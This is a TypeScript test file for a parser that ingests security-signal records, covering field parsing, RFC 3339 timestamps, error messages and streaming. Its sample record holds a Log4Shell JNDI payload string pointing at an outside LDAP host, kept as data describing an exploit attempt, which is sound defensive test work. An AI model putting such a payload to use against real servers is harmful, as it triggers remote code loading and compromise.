import { describe, expect, it } from 'vitest';
import { SIGNAL_KINDS } from '../../src/domain/records.js';
import { isRfc3339 } from '../../src/ingest/record-fields.js';
import { signalsParser } from '../../src/ingest/signals.js';
import { assertRobust, bytes, collect, expectImportError, recordsOf } from './ingest-helpers.js';

const FULL = {
  id: 'sig-1',
  time: '2024-05-01T12:00:00.123+02:00',
  asset: 'web-01',
  kind: 'exploit_attempt',
  vulnerability: 'CVE-2021-44228',
  component: 'log4j-core',
  source: 'waf',
  indicator: '203.0.113.7',
  payload: '${jndi:ldap://203.0.113.7/a}',
  alert: 'WAF-942',
  confidence: 'high',
  rule_id: 942100,
};

const line = (o: object): string => `${JSON.stringify(o)}\n`;

describe('signals parser', () => {
  it('reads every field, keeps time as written and unknown fields in extra', async () => {
    const items = await collect(signalsParser.parse(bytes(line(FULL) + line({ id: 's2', time: '2024-05-01T10:00:00Z', asset: 'a', kind: 'webshell' }), 9), { file: 's.ndjson' }));
    const [a, b] = recordsOf(items, 'signal');
    expect(a).toEqual({ ...FULL, rule_id: undefined, extra: { rule_id: 942100 } });
    expect(b).toEqual({
      id: 's2',
      time: '2024-05-01T10:00:00Z',
      asset: 'a',
      kind: 'webshell',
      vulnerability: null,
      component: null,
      source: null,
      indicator: null,
      payload: null,
      alert: null,
      confidence: null,
      extra: {},
    });
  });

  it('accepts every SPEC §2 signal kind', async () => {
    const text = SIGNAL_KINDS.map((kind, i) => line({ id: `s${i}`, time: '2024-01-01T00:00:00Z', asset: 'a', kind })).join('');
    const items = await collect(signalsParser.parse(bytes(text), { file: 's.ndjson' }));
    expect(recordsOf(items, 'signal').map((s) => s.kind)).toEqual([...SIGNAL_KINDS]);
  });

  it('validates RFC 3339', () => {
    for (const ok of ['2024-02-29T23:59:60Z', '2024-01-01t00:00:00z', '2024-01-01 00:00:00.5-05:30', '1999-12-31T23:59:59+14:00']) {
      expect(isRfc3339(ok)).toBe(true);
    }
    for (const bad of ['2023-02-29T00:00:00Z', '2024-01-01T00:00:00', '2024-01-01', '2024-13-01T00:00:00Z', '2024-01-01T24:00:00Z', '1714560000', '2024-01-01T00:00:00+2:00']) {
      expect(isRfc3339(bad)).toBe(false);
    }
  });

  describe('bad input names file, line and field', () => {
    const base = { id: 'x', time: '2024-01-01T00:00:00Z', asset: 'a', kind: 'persistence' };
    it('each required field missing', async () => {
      for (const field of ['id', 'time', 'asset', 'kind'] as const) {
        const rec: Record<string, unknown> = { ...base };
        delete rec[field];
        await expectImportError(signalsParser, line(base) + line(rec), { record: 2, field, message: /missing/ });
      }
    });

    it('wrong types', async () => {
      await expectImportError(signalsParser, line({ ...base, id: 5 }), { record: 1, field: 'id', message: /expected a string/ });
      await expectImportError(signalsParser, line({ ...base, time: 1714560000 }), { record: 1, field: 'time' });
      await expectImportError(signalsParser, line({ ...base, payload: { a: 1 } }), { record: 1, field: 'payload' });
      await expectImportError(signalsParser, '"just a string"\n', { record: 1, field: null, message: /JSON object/ });
    });

    it('bad time and vocabularies', async () => {
      await expectImportError(signalsParser, line({ ...base, time: '2024-01-01 noon' }), { record: 1, field: 'time', message: /RFC 3339/ });
      await expectImportError(signalsParser, line({ ...base, time: '2024-02-30T00:00:00Z' }), { record: 1, field: 'time' });
      await expectImportError(signalsParser, line({ ...base, kind: 'port_scan' }), {
        record: 1,
        field: 'kind',
        message: /exploit_attempt, suspicious_payload/,
      });
      await expectImportError(signalsParser, line({ ...base, confidence: 'certain' }), { record: 1, field: 'confidence', message: /low, medium, high/ });
    });

    it('malformed and truncated lines', async () => {
      await expectImportError(signalsParser, `${line(base)}\n{"id":"y","time":`, { record: 3, field: null, message: /invalid JSON/ });
      await expectImportError(signalsParser, `[${JSON.stringify(base)}]\n`, { record: 1, field: null, message: /JSON object/ });
    });
  });

  it('streams: the first signal arrives before the source is read, and 100k lines parse', async () => {
    let produced = 0;
    const total = 100_000;
    async function* source(): AsyncGenerator<string> {
      for (let i = 0; i < total; i += 1000) {
        let chunk = '';
        for (let j = i; j < i + 1000; j++) chunk += line({ id: `s${j}`, time: '2024-01-01T00:00:00Z', asset: `a${j % 7}`, kind: 'exploit_attempt' });
        produced += 1000;
        yield chunk;
      }
    }
    const gen = signalsParser.parse(source(), { file: 'big.ndjson' });
    const first = await gen.next();
    expect(first.done).toBe(false);
    expect(produced).toBeLessThanOrEqual(2000);
    let count = 1;
    for await (const item of gen) if (item.kind === 'signal') count++;
    expect(count).toBe(total);
  });

  it('is robust against random and mutated bytes', async () => {
    await assertRobust(signalsParser, [line(FULL) + line({ id: 'x', time: '2024-01-01T00:00:00Z', asset: 'a', kind: 'persistence' })]);
  });
});
